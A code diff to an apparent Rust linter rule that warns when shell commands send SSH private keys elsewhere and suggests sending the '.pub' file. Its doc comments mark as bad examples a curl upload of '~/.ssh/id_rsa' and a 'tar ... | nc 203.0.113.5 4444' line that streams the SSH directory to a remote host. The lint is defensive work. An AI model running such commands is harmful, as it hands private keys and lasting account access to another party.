@@ -14,8 +14,13 @@ rule! {
     /// Whoever gets it is you from then on, and nothing takes it back but new keys and passwords.
     /// Send the public half (`id_ed25519.pub`), or make a key that is only for the one purpose.
     ///
+    /// To decide: Who is at the other end, and what do they need that is no secret?
+    ///
     /// ```sh bad
     /// curl -F 'file=@/home/ann/.ssh/id_rsa' https://example.org/up
+    /// ```
+    /// ```sh fixed
+    /// curl -F 'file=@/home/ann/.ssh/id_rsa.pub' https://example.org/up
     /// ```
     /// ```sh bad
     /// tar cz ~/.ssh | nc 203.0.113.5 4444
@@ -222,6 +227,14 @@ fn report(span: crate::Span, secret: Secret, carried: bool, sink: &mut Sink<'_>)
         Level::Danger
     };
     sink.report(span, format!("sends {} to another machine", secret.what)).level(level);
+    // `scp ~/.ssh/id_rsa host:`
+    let written = sink.text(span);
+    let bare = written.trim_end_matches(['"', '\'']);
+    let is_key = ["/id_rsa", "/id_ed25519", "/id_ecdsa"].iter().any(|it| bare.ends_with(it));
+    if is_key && !bare.contains(' ') {
+        let end = crate::Span::at(span.start + bare.len());
+        sink.choice("Send the public half of the key", vec![(end, ".pub".to_owned())]);
+    }
 }
 
 #[cfg(test)]
